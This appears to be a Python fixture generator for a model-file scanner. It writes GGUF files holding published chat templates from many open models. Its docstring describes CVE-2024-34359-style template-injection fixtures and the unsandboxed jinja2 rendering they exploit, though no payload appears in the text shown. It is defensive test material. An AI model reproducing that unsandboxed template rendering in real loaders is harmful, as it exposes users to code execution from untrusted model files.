#!/usr/bin/python3
"""Generate GGUF and tokenizer-config fixtures for modelgate.

GGUF files are written by a small writer that follows the published GGUF
specification (ggml docs/gguf.md; Debian has no python3-gguf package):
versions 1-3, both byte orders, every value type, nested arrays, tensor
infos with alignment padding. Benign files carry chat templates published
by real models (sources noted per template). Malicious files carry
CVE-2024-34359-style payloads; each is proven live by reading the template
back out of the written file and rendering it exactly as llama-cpp-python
<= 0.2.71 did (jinja2.Environment(loader=BaseLoader(), trim_blocks=True,
lstrip_blocks=True).from_string(t).render(messages=..., ...)) with Debian's
python3-jinja2 in a throwaway subprocess; the payload only touches
$MODELGATE_MARKER. Benign templates must render in jinja2's
ImmutableSandboxedEnvironment (what transformers uses) and must not touch
the marker; every malicious one must raise SecurityError there.

Writes:
  test/fixtures/{benign,malicious}/gguf/*          fixtures
  test/fixtures/manifest-gguf.json                 manifest
  core/jinja/testdata/{benign,malicious}/*.jinja   unit-test and fuzz corpus

Run: /usr/bin/python3 test/gen_gguf_fixtures.py
"""
import json
import os
import struct
import subprocess
import sys
import tempfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FIX = os.path.join(ROOT, "test", "fixtures")
JT = os.path.join(ROOT, "core", "jinja", "testdata")
MARK = '${MODELGATE_MARKER:-/tmp/modelgate-marker}'
TOUCH = "touch \"%s\"" % MARK
LOADER = ("llama-cpp-python<=0.2.71 Jinja2ChatFormatter rendering: "
          "jinja2.Environment(loader=BaseLoader(), trim_blocks=True, lstrip_blocks=True)"
          ".from_string(tpl).render(messages=...) (Debian python3-jinja2 3.1.2)")

# ---------------------------------------------------------------------------
# Published chat templates (benign). Sources: the models' tokenizer_config.json
# on the Hugging Face Hub as reproduced in huggingface.js packages/jinja tests
# and llama.cpp models/templates.
# ---------------------------------------------------------------------------
BENIGN = {}

# meta-llama/Llama-2-7b-chat-hf (transformers' llama default template)
BENIGN["llama2"] = "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% set system_message = messages[0]['content'] %}{% elif USE_DEFAULT_PROMPT == true and not '<<SYS>>' in messages[0]['content'] %}{% set loop_messages = messages %}{% set system_message = 'DEFAULT_SYSTEM_MESSAGE' %}{% else %}{% set loop_messages = messages %}{% set system_message = false %}{% endif %}{% for message in loop_messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if loop.index0 == 0 and system_message != false %}{% set content = '<<SYS>>\\n' + system_message + '\\n<</SYS>>\\n\\n' + message['content'] %}{% else %}{% set content = message['content'] %}{% endif %}{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + content.strip() + ' [/INST]' }}{% elif message['role'] == 'system' %}{{ '<<SYS>>\\n' + content.strip() + '\\n<</SYS>>\\n\\n' }}{% elif message['role'] == 'assistant' %}{{ ' ' + content.strip() + ' ' + eos_token }}{% endif %}{% endfor %}"

# meta-llama/Meta-Llama-3-8B-Instruct
BENIGN["llama3"] = "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"

# meta-llama/Llama-3.2-1B-Instruct (Llama 3.1 tool-calling family; strftime_now)
BENIGN["llama3_2_tools"] = r'''{{- bos_token }}
{%- if custom_tools is defined %}
    {%- set tools = custom_tools %}
{%- endif %}
{%- if not tools_in_user_message is defined %}
    {%- set tools_in_user_message = true %}
{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}
        {%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}
        {%- set date_string = "26 Jul 2024" %}
    {%- endif %}
{%- endif %}
{%- if not tools is defined %}
    {%- set tools = none %}
{%- endif %}

{#- This block extracts the system message, so we can slot it into the right place. #}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}
    {%- set system_message = "" %}
{%- endif %}

{#- System message #}
{{- "<|start_header_id|>system<|end_header_id|>\n\n" }}
{%- if tools is not none %}
    {{- "Environment: ipython\n" }}
{%- endif %}
{{- "Cutting Knowledge Date: December 2023\n" }}
{{- "Today Date: " + date_string + "\n\n" }}
{%- if tools is not none and not tools_in_user_message %}
    {{- "You have access to the following functions. To call a function, please respond with JSON for a function call." }}
    {{- 'Respond in the format {"name": function name, "parameters": dictionary of argument name and its value}.' }}
    {{- "Do not use variables.\n\n" }}
    {%- for t in tools %}
        {{- t | tojson(indent=4) }}
        {{- "\n\n" }}
    {%- endfor %}
{%- endif %}
{{- system_message }}
{{- "<|eot_id|>" }}

{#- Custom tools are passed in a user message with some extra guidance #}
{%- if tools_in_user_message and not tools is none %}
    {#- Extract the first user message so we can plug it in here #}
    {%- if messages | length != 0 %}
        {%- set first_user_message = messages[0]['content']|trim %}
        {%- set messages = messages[1:] %}
    {%- else %}
        {{- raise_exception("Cannot put tools in the first user message when there's no first user message!") }}
{%- endif %}
    {{- '<|start_header_id|>user<|end_header_id|>\n\n' -}}
    {{- "Given the following functions, please respond with a JSON for a function call " }}
    {{- "with its proper arguments that best answers the given prompt.\n\n" }}
    {{- 'Respond in the format {"name": function name, "parameters": dictionary of argument name and its value}.' }}
    {{- "Do not use variables.\n\n" }}
    {%- for t in tools %}
        {{- t | tojson(indent=4) }}
        {{- "\n\n" }}
    {%- endfor %}
    {{- first_user_message + "<|eot_id|>"}}
{%- endif %}

{%- for message in messages %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- if not message.tool_calls|length == 1 %}
            {{- raise_exception("This model only supports single tool-calls at once!") }}
        {%- endif %}
        {%- set tool_call = message.tool_calls[0].function %}
        {{- '<|start_header_id|>assistant<|end_header_id|>\n\n' -}}
        {{- '{"name": "' + tool_call.name + '", ' }}
        {{- '"parameters": ' }}
        {{- tool_call.arguments | tojson }}
        {{- "}" }}
        {{- "<|eot_id|>" }}
    {%- elif message.role == "tool" or message.role == "ipython" %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\n\n" }}
        {%- if message.content is mapping or message.content is iterable %}
            {{- message.content | tojson }}
        {%- else %}
            {{- message.content }}
        {%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|start_header_id|>assistant<|end_header_id|>\n\n' }}
{%- endif %}
'''

# mistralai/Mistral-7B-Instruct-v0.1
BENIGN["mistral"] = "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token + ' ' }}{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"

# mistralai/Mixtral-8x7B-Instruct-v0.1
BENIGN["mixtral"] = "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"

# CISCai/Mistral-7B-Instruct-v0.3-SOTA-GGUF (namespace holder, dict(), selectattr, map(attribute=))
BENIGN["mistral_v03_tools"] = "{{ bos_token }}{% set ns = namespace(lastuser=-1, system=false, functions=false) %}{% if tools %}{% for message in messages %}{% if message['role'] == 'user' %}{% set ns.lastuser = loop.index0 %}{% elif message['role'] == 'system' %}{% set ns.system = message['content'] %}{% endif %}{% endfor %}{% set ns.functions = tools|selectattr('type','eq','function')|map(attribute='function')|list|tojson %}{% endif %}{% for message in messages %}{% if message['role'] == 'user' %}{% if loop.index0 == ns.lastuser and ns.functions %}{{ '[AVAILABLE_TOOLS] ' }}{{ ns.functions }}{{ '[/AVAILABLE_TOOLS]' }}{% endif %}{{ '[INST] ' }}{% if loop.index0 == ns.lastuser and ns.system %}{{ ns.system + ' ' }}{% endif %}{{ message['content'] }}{{ '[/INST]' }}{% elif message['role'] == 'tool' %}{{ '[TOOL_RESULTS] ' }}{{ dict(call_id=message['tool_call_id'], content=message['content'])|tojson }}{{ '[/TOOL_RESULTS]' }}{% elif message['role'] == 'assistant' %}{% if message['tool_calls'] %}{{ '[TOOL_CALLS] [' }}{% for call in message['tool_calls'] %}{% if call['type'] == 'function' %}{{ dict(id=call['id'], name=call['function']['name'], arguments=call['function']['arguments'])|tojson }}{% endif %}{% if not loop.last %}{{ ', ' }}{% endif %}{% endfor %}{{ ']' }}{% else %}{{ message['content'] }}{% endif %}{{ eos_token }}{% endif %}{% endfor %}"

# Qwen/Qwen1.5-72B-Chat (ChatML)
BENIGN["qwen1_5_chatml"] = "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}{{ '<|im_start|>system\nYou are a helpful assistant<|im_end|>\n' }}{% endif %}{{'<|im_start|>' + message['role'] + '\n' + message['content']}}{% if (loop.last and add_generation_prompt) or not loop.last %}{{ '<|im_end|>' + '\n'}}{% endif %}{% endfor %}{% if add_generation_prompt and messages[-1]['role'] != 'assistant' %}{{ '<|im_start|>assistant\n' }}{% endif %}"

# Qwen/Qwen2-7B-Instruct
BENIGN["qwen2"] = "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}{{ '<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n' }}{% endif %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"

# Qwen/Qwen2.5-7B-Instruct (tools)
BENIGN["qwen2_5_tools"] = r'''{%- if tools %}
    {{- '<|im_start|>system\n' }}
    {%- if messages[0]['role'] == 'system' %}
        {{- messages[0]['content'] }}
    {%- else %}
        {{- 'You are Qwen, created by Alibaba Cloud. You are a helpful assistant.' }}
    {%- endif %}
    {{- "\n\n# Tools\n\nYou may call one or more functions to assist with the user query.\n\nYou are provided with function signatures within <tools></tools> XML tags:\n<tools>" }}
    {%- for tool in tools %}
        {{- "\n" }}
        {{- tool | tojson }}
    {%- endfor %}
    {{- "\n</tools>\n\nFor each function call, return a json object with function name and arguments within <tool_call></tool_call> XML tags:\n<tool_call>\n{\"name\": <function-name>, \"arguments\": <args-json-object>}\n</tool_call><|im_end|>\n" }}
{%- else %}
    {%- if messages[0]['role'] == 'system' %}
        {{- '<|im_start|>system\n' + messages[0]['content'] + '<|im_end|>\n' }}
    {%- else %}
        {{- '<|im_start|>system\nYou are Qwen, created by Alibaba Cloud. You are a helpful assistant.<|im_end|>\n' }}
    {%- endif %}
{%- endif %}
{%- for message in messages %}
    {%- if (message.role == "user") or (message.role == "system" and not loop.first) or (message.role == "assistant" and not message.tool_calls) %}
        {{- '<|im_start|>' + message.role + '\n' + message.content + '<|im_end|>' + '\n' }}
    {%- elif message.role == "assistant" %}
        {{- '<|im_start|>' + message.role }}
        {%- if message.content %}
            {{- '\n' + message.content }}
        {%- endif %}
        {%- for tool_call in message.tool_calls %}
            {%- if tool_call.function is defined %}
                {%- set tool_call = tool_call.function %}
            {%- endif %}
            {{- '\n<tool_call>\n{"name": "' }}
            {{- tool_call.name }}
            {{- '", "arguments": ' }}
            {{- tool_call.arguments | tojson }}
            {{- '}\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\n' }}
    {%- elif message.role == "tool" %}
        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != "tool") %}
            {{- '<|im_start|>user' }}
        {%- endif %}
        {{- '\n<tool_response>\n' }}
        {{- message.content }}
        {{- '\n</tool_response>' }}
        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}
            {{- '<|im_end|>\n' }}
        {%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}
    {{- '<|im_start|>assistant\n' }}
{%- endif %}
'''

# google/gemma-7b-it
BENIGN["gemma"] = "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\n' + message['content'] | trim + '<end_of_turn>\n' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\n'}}{% endif %}"

# microsoft/Phi-3-mini-4k-instruct
BENIGN["phi3"] = "{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>\n' + message['content'] + '<|end|>\n'}}{% elif message['role'] == 'user' %}{{'<|user|>\n' + message['content'] + '<|end|>\n'}}{% elif message['role'] == 'assistant' %}{{'<|assistant|>\n' + message['content'] + '<|end|>\n'}}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\n' }}{% else %}{{ eos_token }}{% endif %}"

# HuggingFaceH4/zephyr-7b-beta
BENIGN["zephyr"] = "{% for message in messages %}\n{% if message['role'] == 'user' %}\n{{ '<|user|>\n' + message['content'] + eos_token }}\n{% elif message['role'] == 'system' %}\n{{ '<|system|>\n' + message['content'] + eos_token }}\n{% elif message['role'] == 'assistant' %}\n{{ '<|assistant|>\n'  + message['content'] + eos_token }}\n{% endif %}\n{% if loop.last and add_generation_prompt %}\n{{ '<|assistant|>' }}\n{% endif %}\n{% endfor %}"

# deepseek-ai/deepseek-coder-33b-instruct (namespace holder)
BENIGN["deepseek_coder"] = "{% if not add_generation_prompt is defined %}\n{% set add_generation_prompt = false %}\n{% endif %}\n{%- set ns = namespace(found=false) -%}\n{%- for message in messages -%}\n    {%- if message['role'] == 'system' -%}\n        {%- set ns.found = true -%}\n    {%- endif -%}\n{%- endfor -%}\n{{bos_token}}{%- if not ns.found -%}\n{{'You are an AI programming assistant, utilizing the Deepseek Coder model, developed by Deepseek Company, and you only answer questions related to computer science. For politically sensitive questions, security and privacy issues, and other non-computer science questions, you will refuse to answer\\n'}}\n{%- endif %}\n{%- for message in messages %}\n    {%- if message['role'] == 'system' %}\n{{ message['content'] }}\n    {%- else %}\n        {%- if message['role'] == 'user' %}\n{{'### Instruction:\\n' + message['content'] + '\\n'}}\n        {%- else %}\n{{'### Response:\\n' + message['content'] + '\\n<|EOT|>\\n'}}\n        {%- endif %}\n    {%- endif %}\n{%- endfor %}\n{% if add_generation_prompt %}\n{{'### Response:'}}\n{% endif %}"

# deepseek-ai/DeepSeek-R1-Distill-Qwen-32B (llama.cpp models/templates)
BENIGN["deepseek_r1_distill"] = "{% if not add_generation_prompt is defined -%}\n  {%- set add_generation_prompt = false -%}\n{%- endif -%}\n{%- set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='') -%}\n{%- for message in messages -%}\n  {%- if message['role'] == 'system' -%}\n    {%- set ns.system_prompt = message['content'] -%}\n  {%- endif -%}\n{%- endfor -%}{{bos_token}}{{ns.system_prompt}}\n{%- for message in messages -%}\n  {%- if message['role'] == 'user' -%}\n    {%- set ns.is_tool = false -%}{{'<\uff5cUser\uff5c>' + message['content']}}\n  {%- endif -%}\n  {%- if message['role'] == 'assistant' and message['tool_calls'] -%}\n    {%- set ns.is_tool = false -%}\n    {%- for tool in message['tool_calls']-%}\n      {%- if not ns.is_first -%}\n        {{'<\uff5cAssistant\uff5c><\uff5ctool\u2581calls\u2581begin\uff5c><\uff5ctool\u2581call\u2581begin\uff5c>' + tool['type'] + '<\uff5ctool\u2581sep\uff5c>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<\uff5ctool\u2581call\u2581end\uff5c>'}}\n        {%- set ns.is_first = true -%}\n      {%- else -%}\n        {{'\\n' + '<\uff5ctool\u2581call\u2581begin\uff5c>' + tool['type'] + '<\uff5ctool\u2581sep\uff5c>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<\uff5ctool\u2581call\u2581end\uff5c>'}}\n      {%- endif -%}\n    {%- endfor -%}\n    {{'<\uff5ctool\u2581calls\u2581end\uff5c><\uff5cend\u2581of\u2581sentence\uff5c>'}}\n  {%- endif -%}\n  {%- if message['role'] == 'assistant' and message['content'] is not none -%}\n    {%- if ns.is_tool -%}{{'<\uff5ctool\u2581outputs\u2581end\uff5c>' + message['content'] + '<\uff5cend\u2581of\u2581sentence\uff5c>'}}\n      {%- set ns.is_tool = false -%}\n    {%- else -%}\n      {%- set content = message['content'] -%}\n      {%- if '</think>' in content -%}\n        {%- set content = content.split('</think>')[-1] -%}\n      {%- endif -%}{{'<\uff5cAssistant\uff5c>' + content + '<\uff5cend\u2581of\u2581sentence\uff5c>'}}\n    {%- endif -%}\n  {%- endif -%}\n  {%- if message['role'] == 'tool' -%}\n    {%- set ns.is_tool = true -%}\n    {%- if ns.is_output_first -%}{{'<\uff5ctool\u2581outputs\u2581begin\uff5c><\uff5ctool\u2581output\u2581begin\uff5c>' + message['content'] + '<\uff5ctool\u2581output\u2581end\uff5c>'}}\n      {%- set ns.is_output_first = false -%}\n      {%- else -%}{{'\\n<\uff5ctool\u2581output\u2581begin\uff5c>' + message['content'] + '<\uff5ctool\u2581output\u2581end\uff5c>'}}\n    {%- endif -%}\n  {%- endif -%}\n{%- endfor -%}\n{%- if ns.is_tool -%}{{'<\uff5ctool\u2581outputs\u2581end\uff5c>'}}\n{%- endif -%}\n{%- if add_generation_prompt and not ns.is_tool -%}{{'<\uff5cAssistant\uff5c><think>\\n'}}\n{%- endif %}"

# CohereForAI/c4ai-command-r7b-12-2024 tool_use (llama.cpp models/templates):
# macros, namespace counters and the message loop kept verbatim; the long
# prose preamble between them is shortened.
BENIGN["command_r7b_tool_use"] = r'''{{ bos_token }}{%- macro document_turn(documents) -%}
{# format documents into chat turn #}
<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|><|START_THINKING|>I will look through the document to address the users needs.<|END_THINKING|><|START_ACTION|>[
    {"tool_call_id": "0", "tool_name": "direct-injected-document", "parameters": {}}
]<|END_ACTION|><|END_OF_TURN_TOKEN|><|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|><|START_TOOL_RESULT|>[
    {
        "tool_call_id": "0",
        "results": {
{% for doc in documents %}
            "{{ loop.index0 }}": {{doc|tojson}}{% if not loop.last %},
            {% endif %}
{% endfor %}

        },
        "is_error": null
    }
]<|END_TOOL_RESULT|><|END_OF_TURN_TOKEN|>{%- endmacro %}
{%- macro tool_call_id_to_int(messages, tool_call_id) %}
{%- set counter = namespace(value=0) %}
{%- set tool_call_id_seen = namespace(value=false) %}
{%- for msg in messages %}
    {%- if msg.tool_calls %}
        {%- for tool_call in msg.tool_calls %}
            {%- if tool_call.id == tool_call_id and not tool_call_id_seen.value -%}
                {{ counter.value }}
                {%- set tool_call_id_seen.value = true %}
            {%- endif %}
            {%- set counter.value = counter.value + 1 %}
        {%- endfor %}
    {%- endif %}
{%- endfor %}
{%- endmacro %}
{%- macro format_tool_message(messages, tool_msg) -%}
{# format tool message #}
    {
        "tool_call_id": "{{ tool_call_id_to_int(messages, tool_msg.tool_call_id) }}",
        "results": {
            "0": {{ tool_msg.content|tojson }}
        },
        "is_error": null
    }
{%- endmacro -%}
{%- if messages and messages[0]['role']|lower == 'system' %}{%- set developer_preamble = messages[0]['content'] %}{% endif %}
{%- set tool_idx = namespace(value=0) %}
{%- set tool_ids_seen = namespace(value=[]) %}
{%- set sent_documents = namespace(value=false) %}
<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|># System Preamble
You are in contextual safety mode.
{% if tools or documents %}
## Available Tools
```json
[
{% for tool in tools %}
    {"name": "{{ tool['function']['name'] }}", "description": "{{tool['function']['description']}}", "parameters": {{ tool['function']['parameters']|tojson }}, "responses": null}{%- if not loop.last %},{% endif %}

{% endfor %}
]
```

{% endif %}
# Default Preamble
- Your name is Command.
{%- if developer_preamble %}


# Developer Preamble
{{ developer_preamble }}
{%- endif -%}
<|END_OF_TURN_TOKEN|>
{%- for message in messages %}
    {%- if message.role|lower == 'system' and not (loop.first and developer_preamble)%}
<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|>{{ message.content }}<|END_OF_TURN_TOKEN|>
    {%- elif message.role|lower == 'user' %}
<|START_OF_TURN_TOKEN|><|USER_TOKEN|>{{ message.content }}<|END_OF_TURN_TOKEN|>{%- if documents and not sent_documents.value %}{%- set sent_documents.value = true %}{% set tool_idx.value = tool_idx.value + 1 %}{{ document_turn(documents) }}{% endif %}
    {%- elif message.role|lower == 'assistant' or message.role|lower == 'chatbot' %}
<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>{% if message.tool_calls %}<|START_THINKING|>{{message.reasoning_content}}<|END_THINKING|><|START_ACTION|>[
    {% for tc in message.tool_calls %}
    {"tool_call_id": "{{ tool_idx.value }}", "tool_name": "{{ tc['function']['name'] }}", "parameters": {{ tc['function']['arguments']|tojson }}}{% if not loop.last %},{% endif %}

    {% set tool_idx.value = tool_idx.value + 1 %}
    {% endfor %}
]<|END_ACTION|><|END_OF_TURN_TOKEN|>{% else %}<|START_RESPONSE|>{{message.content}}<|END_RESPONSE|><|END_OF_TURN_TOKEN|>{% endif %}
    {% elif message.role|lower == 'tool' and message.tool_call_id not in tool_ids_seen.value %}
<|START_OF_TURN_TOKEN|><|SYSTEM_TOKEN|><|START_TOOL_RESULT|>[
{{ format_tool_message(messages, message) }}
    {%- for msg in messages[loop.index0 + 1:] %}
        {%- if msg.role|lower == 'tool' %},
{{ format_tool_message(messages, msg) }}
            {%- set tool_ids_seen.value = tool_ids_seen.value + [msg.tool_call_id] %}
        {%- else %}
            {%- break %}
        {%- endif %}
    {%- endfor %}

]<|END_TOOL_RESULT|><|END_OF_TURN_TOKEN|>
    {%- endif %}
{%- endfor %}<|START_OF_TURN_TOKEN|><|CHATBOT_TOKEN|>'''

# fireworks-ai/firefunction-v1 (namespace holding messages and content)
BENIGN["firefunction"] = "{%- set message_roles = ['SYSTEM', 'FUNCTIONS', 'USER', 'ASSISTANT', 'TOOL'] -%}\n{%- set ns = namespace(seen_non_system=false, messages=messages, content='', functions=[]) -%}\n{{ bos_token }}\n{#- Basic consistency checks -#}\n{%- if not ns.messages -%}\n  {{ raise_exception('No messages') }}\n{%- endif -%}\n{%- if ns.messages[0]['role'] | upper != 'SYSTEM' -%}\n  {%- set ns.messages = [{'role': 'SYSTEM', 'content': 'You are a helpful assistant with access to functions. Use them if required.'}] + ns.messages -%}\n{%- endif -%}\n{%- for message in ns.messages -%}\n  {%- set role = message['role'] | upper -%}\n  {%- set ns.content = message['content'] if message.get('content') else '' -%}\n  {%- if 'tool_calls' in message -%}\n    {%- for call in message['tool_calls'] -%}\n      {%- set ns.content = ns.content + '<functioncall>{\"name\": \"' + call['function']['name'] + '\", \"arguments\": ' + call['function']['arguments'] + '}' -%}\n    {%- endfor -%}\n  {%- endif -%}\n  {%- if role == 'ASSISTANT' and '<functioncall>' not in ns.content -%}\n    {%- set ns.content = '<plain>' + ns.content -%}\n  {%- endif -%}\n  {%- if role == 'ASSISTANT' -%}\n    {%- set ns.content = ns.content + eos_token -%}\n  {%- endif -%}\n  {{ role }}: {{ ns.content }}{{ '\\n\\n' }}\n{%- endfor -%}\nASSISTANT:{{ ' ' }}\n"

# maywell/PiVoT-MoE (selectattr with a test name)
BENIGN["pivot_moe"] = "{{ (messages|selectattr('role', 'equalto', 'system')|list|last).content|trim if (messages|selectattr('role', 'equalto', 'system')|list) else '' }}{% for message in messages %}{% if message['role'] == 'system' %}{{ message['content']|trim }}{% elif message['role'] == 'user' %}### Instruction: {{ message['content']|trim }}{% elif message['role'] == 'assistant' %}### Response: {{ message['content']|trim }}{% elif message['role'] == 'user_context' %}### Input: {{ message['content']|trim }}{% endif %}{% if not loop.last %}\n{% endif %}{% endfor %}{% if add_generation_prompt and messages[-1]['role'] != 'assistant' %}### Response:{% endif %}"

# mistralai/Mistral-Small-3.1-24B-Instruct-2503 (llama.cpp models/templates)
BENIGN["mistral_small_3_1"] = r'''{%- set today = strftime_now("%Y-%m-%d") %}
{%- set default_system_message = "You are Mistral Small 3, a Large Language Model (LLM) created by Mistral AI, a French startup headquartered in Paris.\
Your knowledge base was last updated on 2023-10-01. The current date is " + today + ".\
\
When you're not sure about some information, you say that you don't have the information and don't make up anything.\
If the user's question is not clear, ambiguous, or does not provide enough context for you to accurately answer the question, you do not try to answer it right away and you rather ask the user to clarify their request (e.g. \"What are some good restaurants around me?\" => \"Where are you?\" or \"When is the next flight to Tokyo\" => \"Where do you travel from?\")" %}

{{- bos_token }}

{%- if messages[0]['role'] == 'system' %}
    {%- if messages[0]['content'] is string %}
        {%- set system_message = messages[0]['content'] %}
        {%- set loop_messages = messages[1:] %}
    {%- else %}
        {%- set system_message = messages[0]['content'][0]['text'] %}
        {%- set loop_messages = messages[1:] %}
    {%- endif %}
{%- else %}
    {%- set system_message = default_system_message %}
    {%- set loop_messages = messages %}
{%- endif %}
{%- if not tools is defined %}
    {%- set tools = none %}
{%- elif tools is not none %}
    {%- set parallel_tool_prompt = "You are a helpful assistant that can call tools. If you call one or more tools, format them in a single JSON array or objects, where each object is a tool call, not as separate objects outside of an array or multiple arrays. Use the format [{\"name\": tool call name, \"arguments\": tool call arguments}, additional tool calls] if you call more than one tool. If you call tools, do not attempt to interpret them or otherwise provide a response until you receive a tool call result that you can interpret for the user." %}
    {%- if system_message is defined %}
        {%- set system_message = parallel_tool_prompt + "\
\
" + system_message %}
    {%- else %}
        {%- set system_message = parallel_tool_prompt %}
    {%- endif %}
{%- endif %}
{{- '[SYSTEM_PROMPT]' + system_message + '[/SYSTEM_PROMPT]' }}

{%- set user_messages = loop_messages | selectattr("role", "equalto", "user") | list %}

{%- set filtered_messages = [] %}
{%- for message in loop_messages %}
    {%- if message["role"] not in ["tool", "tool_results"] and not message.get("tool_calls") %}
        {%- set filtered_messages = filtered_messages + [message] %}
    {%- endif %}
{%- endfor %}

{%- for message in filtered_messages %}
    {%- if (message["role"] == "user") != (loop.index0 % 2 == 0) %}
        {{- raise_exception("After the optional system message, conversation roles must alternate user/assistant/user/assistant/...") }}
    {%- endif %}
{%- endfor %}

{%- for message in loop_messages %}
    {%- if message["role"] == "user" %}
        {%- if tools is not none and (message == user_messages[-1]) %}
            {{- "[AVAILABLE_TOOLS] [" }}
            {%- for tool in tools %}
                {%- set tool = tool.function %}
                {{- '{"type": "function", "function": {' }}
                {%- for key, val in tool.items() if key != "return" %}
                    {%- if val is string %}
                        {{- '"' + key + '": "' + val + '"' }}
                    {%- else %}
                        {{- '"' + key + '": ' + val|tojson }}
                    {%- endif %}
                    {%- if not loop.last %}
                        {{- ", " }}
                    {%- endif %}
                {%- endfor %}
                {{- "}}" }}
                {%- if not loop.last %}
                    {{- ", " }}
                {%- else %}
                    {{- "]" }}
                {%- endif %}
            {%- endfor %}
            {{- "[/AVAILABLE_TOOLS]" }}
        {%- endif %}
        {%- if message['content'] is string %}
        {{- '[INST]' + message['content'] + '[/INST]' }}
        {%- else %}
                {{- '[INST]' }}
                {%- for block in message['content'] %}
                        {%- if block['type'] == 'text' %}
                                {{- block['text'] }}
                        {%- elif block['type'] == 'image' or block['type'] == 'image_url' %}
                                {{- '[IMG]' }}
                            {%- else %}
                                {{- raise_exception('Only text and image blocks are supported in message content!') }}
                            {%- endif %}
                    {%- endfor %}
                {{- '[/INST]' }}
            {%- endif %}
    {%- elif message["role"] == "tool_calls" or message.tool_calls is defined %}
        {%- if message.tool_calls is defined %}
            {%- set tool_calls = message.tool_calls %}
        {%- else %}
            {%- set tool_calls = message.content %}
        {%- endif %}
        {{- "[TOOL_CALLS] [" }}
        {%- for tool_call in tool_calls %}
            {%- set out = tool_call.function|tojson %}
            {{- out[:-1] }}
            {%- if not tool_call.id is defined or tool_call.id|length < 9 %}
                {{- raise_exception("Tool call IDs should be alphanumeric strings with length >= 9! (1)" + tool_call.id) }}
            {%- endif %}
            {{- ', "id": "' + tool_call.id[-9:] + '"}' }}
            {%- if not loop.last %}
                {{- ", " }}
            {%- else %}
                {{- "]" + eos_token }}
            {%- endif %}
        {%- endfor %}
    {%- elif message['role'] == 'assistant' %}
        {%- if message['content'] is string %}
            {{- message['content'] + eos_token }}
        {%- else %}
            {{- message['content'][0]['text'] + eos_token }}
        {%- endif %}
    {%- elif message["role"] == "tool_results" or message["role"] == "tool" %}
        {%- if message.content is defined and message.content.content is defined %}
            {%- set content = message.content.content %}
        {%- else %}
            {%- set content = message.content %}
        {%- endif %}
        {{- '[TOOL_RESULTS] {"content": ' + content|string + ", " }}
        {%- if not message.tool_call_id is defined or message.tool_call_id|length < 9 %}
            {{- raise_exception("Tool call IDs should be alphanumeric strings with length >= 9! (2)" + message.tool_call_id) }}
        {%- endif %}
        {{- '"call_id": "' + message.tool_call_id[-9:] + '"}[/TOOL_RESULTS]' }}
    {%- else %}
        {{- raise_exception("Only user and assistant roles are supported, with the exception of an initial optional system message!") }}
    {%- endif %}
{%- endfor %}
'''

